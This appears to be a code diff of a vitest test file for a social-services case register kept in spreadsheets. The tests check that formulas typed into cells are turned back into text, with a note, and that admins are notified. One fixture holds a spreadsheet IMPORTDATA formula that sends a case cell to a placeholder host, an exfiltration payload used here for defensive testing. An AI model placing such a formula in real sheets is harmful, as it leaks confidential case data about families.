@@ -1,12 +1,11 @@
 /** A formula that a person typed into a register becomes text within the hour. Leads and admins are told, without anything from it. */
 import { expect, test } from "vitest";
-import { applied } from "../../scripts/workspace/sheets/requests/batch-update";
-import { sheetsSlice } from "../../scripts/workspace/sheets/store";
 import type { TabId } from "../../src/register/columns";
+import { byHand } from "../day/damage";
 import { Day } from "../day/day";
-import { reportOn, tick } from "../day/events";
+import { call, reportOn, tick } from "../day/events";
 import { mails, recipients } from "../day/look";
-import { admin, contact, lead } from "../day/people";
+import { admin, lead } from "../day/people";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
 const told = (day: Day) => mails(day.out(), "formula-found");
@@ -32,10 +31,10 @@ const edited = (tab: TabId, set: object) => ({
   as: "contact",
 });
 
-test.each<[string, object]>([
-  ["notes of a case", edited("cases", { notes: leaks })],
-  ["notes of an act", tick("call-child-and-family-services", { notes: leaks }, "contact")],
-])("in %s", async (_, event) => {
+test.each<[object, ["cases" | "checklist", string?]]>([
+  [edited("cases", { notes: leaks }), ["cases"]],
+  [tick(call, { notes: leaks }, "contact"), ["checklist", call]],
+])("in notes: %j", async (event, where) => {
   const day = await Day.begin();
   day.play(alex, event);
   day.play({ advance: "PT65M" });
@@ -49,6 +48,12 @@ test.each<[string, object]>([
   expect(JSON.stringify(lines)).not.toMatch(/IMPORT|Alex/);
   day.play({ advance: "PT2H" });
   expect(told(day)).toHaveLength(2);
+  // What was typed is kept as text, with a note, and accepted like any text.
+  const [tab, key] = where;
+  const row = day.rowOf(tab, "26-0001", key);
+  expect(day.rows(tab).find(({ index }) => index === row)?.cells["notes"]).toBe(leaks);
+  expect(day.note(tab, row, "notes")).toMatch(/formula/);
+  expect(day.out().errors).toEqual([]);
 });
 
 test("where a value of its own kind belongs, it is put back at once", async () => {
@@ -58,44 +63,17 @@ test("where a value of its own kind belongs, it is put back at once", async () =
   expect(day.note("cases", day.rowOf("cases", "26-0001"), "nextCheckIn")).toMatch(/^Undone/);
 });
 
-test("what was typed is kept as text, with a note, and in Notes accepted like any text", async () => {
-  const day = await Day.begin();
-  day.play(alex, edited("cases", { notes: leaks }), { advance: "PT70M" });
-  expect(day.out().cases[0]?.["notes"]).toBe(leaks);
-  expect(day.note("cases", day.rowOf("cases", "26-0001"), "notes")).toMatch(/formula/);
-  expect(day.out().errors).toEqual([]);
-});
-
 test("in a tab of a person's own, whose title stands in no mail", async () => {
   const day = await Day.begin();
   day.play(alex);
-  const slice = sheetsSlice(day.workspace.store);
-  const id = day.fileId("main");
-  const properties = {
-    sheetId: 900,
-    title: "About Alex Doe",
-    gridProperties: { rowCount: 50, columnCount: 5 },
-  };
-  const cell = { userEnteredValue: { formulaValue: leaks } };
-  slice.spreadsheets[id] = applied(
-    day.register(),
-    [
-      { addSheet: { properties } },
-      {
-        updateCells: {
-          start: { sheetId: 900, rowIndex: 7, columnIndex: 2 },
-          rows: [{ values: [cell] }],
-          fields: "userEnteredValue",
-        },
-      },
-    ],
-    {
-      actor: { address: contact, owner: admin },
-      assume: {},
-      mustTake: () => undefined,
-      countWritten: () => undefined,
-    },
-  ).draft;
+  const gridProperties = { rowCount: 50, columnCount: 5 };
+  const properties = { sheetId: 900, title: "About Alex Doe", gridProperties };
+  const rows = [{ values: [{ userEnteredValue: { formulaValue: leaks } }] }];
+  const start = { sheetId: 900, rowIndex: 7, columnIndex: 2 };
+  byHand(day.workspace, [
+    { addSheet: { properties } },
+    { updateCells: { start, rows, fields: "userEnteredValue" } },
+  ]);
   expect(formulas(day)).toEqual([leaks]);
   day.announce({ sheetId: 900, rowStart: 8, rowEnd: 8, columnStart: 3, columnEnd: 3 });
   day.play({ advance: "PT65M" });
